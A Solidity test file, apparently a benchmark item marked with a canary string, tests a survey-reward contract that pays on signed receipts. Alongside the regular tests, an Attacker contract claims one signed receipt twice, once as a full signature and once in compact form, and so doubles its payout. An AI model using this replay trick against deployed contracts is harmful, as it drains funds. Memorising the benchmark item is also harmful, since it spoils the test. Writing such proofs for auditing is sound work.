// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./SurveyReceipts.sol";

// assay-canary-0d298265-b77c-4ff0-bfa0-85545b2e6600

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant KEY = 0x5EC2E7;
    uint64 private constant START = 1_700_000_000;

    Token public token;
    SurveyReceipts private receipts;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        receipts = new SurveyReceipts(token);
        token.mint(address(this), 3_000e18);
        token.approve(address(receipts), 3_000e18);
        receipts.open(vm.addr(KEY), 2_000e18, START + 90 days);
        mallory = new Attacker(receipts);
        (bytes32 r, bytes32 s, uint8 v) = receipt(0, address(mallory), 250e18);
        mallory.keep(r, s, v);
    }

    function receipt(uint256 id, address who, uint256 amt) private returns (bytes32 r, bytes32 s, uint8 v) {
        (v, r, s) = vm.sign(KEY, receipts.digest(id, who, amt));
    }

    function long(address who, uint256 amt) private returns (bytes memory) {
        (bytes32 r, bytes32 s, uint8 v) = receipt(0, who, amt);
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        bytes memory sig = long(ANA, 200e18);
        vm.prank(ANA);
        receipts.claim(0, 200e18, sig);
        (bytes32 r, bytes32 s, uint8 v) = receipt(0, BEN, 300e18);
        vm.prank(BEN);
        receipts.claimCompact(0, 300e18, r, s | bytes32(uint256(v - 27) << 255));
        require(token.balanceOf(ANA) == 200e18 && token.balanceOf(BEN) == 300e18, "paid");
        (, , uint128 left) = receipts.surveys(0);
        require(left == 1_500e18, "left");
        vm.warp(START + 90 days);
        require(receipts.close(0) == 1_500e18 && token.balanceOf(address(this)) == 2_500e18, "closed");
        receipts.transferOwnership(ANA);
        vm.prank(ANA);
        receipts.renounceOwnership();
    }

    function test_RefusesOpenings() public {
        vm.expectRevert(SurveyReceipts.Zero.selector);
        new SurveyReceipts(IERC20(address(0)));
        vm.expectRevert(SurveyReceipts.Zero.selector);
        receipts.open(address(0), 1, START + 1);
        vm.expectRevert(SurveyReceipts.Zero.selector);
        receipts.open(ANA, 0, START + 1);
        vm.expectRevert(SurveyReceipts.BadEnd.selector);
        receipts.open(ANA, 1, START);
        vm.expectRevert(SurveyReceipts.BadEnd.selector);
        receipts.open(ANA, 1, START + 180 days + 1);
    }

    function test_RefusesStrangers() public {
        token.mint(ANA, 1);
        vm.startPrank(ANA);
        token.approve(address(receipts), 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        receipts.open(ANA, 1, START + 1);
        vm.warp(START + 90 days);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        receipts.close(0);
        vm.stopPrank();
    }

    function test_RefusesReceipts() public {
        bytes memory sig = long(ANA, 200e18);
        vm.prank(BEN);
        vm.expectRevert(SurveyReceipts.BadSigner.selector);
        receipts.claim(0, 200e18, sig);
        vm.startPrank(ANA);
        vm.expectRevert(SurveyReceipts.BadSigner.selector);
        receipts.claim(0, 201e18, sig);
        receipts.claim(0, 200e18, sig);
        vm.expectRevert(SurveyReceipts.Spent.selector);
        receipts.claim(0, 200e18, sig);
        vm.stopPrank();
        (bytes32 r, bytes32 s, uint8 v) = receipt(0, BEN, 100e18);
        bytes32 vs = s | bytes32(uint256(v - 27) << 255);
        vm.prank(ANA);
        vm.expectRevert(SurveyReceipts.BadSigner.selector);
        receipts.claimCompact(0, 100e18, r, vs);
        vm.startPrank(BEN);
        receipts.claimCompact(0, 100e18, r, vs);
        vm.expectRevert(SurveyReceipts.Spent.selector);
        receipts.claimCompact(0, 100e18, r, vs);
        vm.stopPrank();
    }

    function test_RefusesBudgets() public {
        receipts.open(ANA, 500e18, START + 90 days);
        bytes memory sig = long(BEN, 2_001e18);
        vm.prank(BEN);
        vm.expectRevert(SurveyReceipts.Budget.selector);
        receipts.claim(0, 2_001e18, sig);
    }

    function test_RefusesTimes() public {
        vm.expectRevert(SurveyReceipts.Running.selector);
        receipts.close(0);
        bytes memory sig = long(ANA, 200e18);
        vm.warp(START + 90 days);
        vm.prank(ANA);
        vm.expectRevert(SurveyReceipts.Over.selector);
        receipts.claim(0, 200e18, sig);
        receipts.close(0);
        vm.expectRevert(SurveyReceipts.Zero.selector);
        receipts.close(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(receipts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    SurveyReceipts private receipts;
    address private maker = msg.sender;
    bytes32 private r;
    bytes32 private s;
    uint8 private v;

    constructor(SurveyReceipts receipts_) {
        receipts = receipts_;
    }

    function keep(bytes32 r_, bytes32 s_, uint8 v_) external {
        require(msg.sender == maker, "maker only");
        (r, s, v) = (r_, s_, v_);
    }

    function run() external {
        receipts.claim(0, 250e18, abi.encodePacked(r, s, v));
        receipts.claimCompact(0, 250e18, r, s | bytes32(uint256(v - 27) << 255));
    }
}
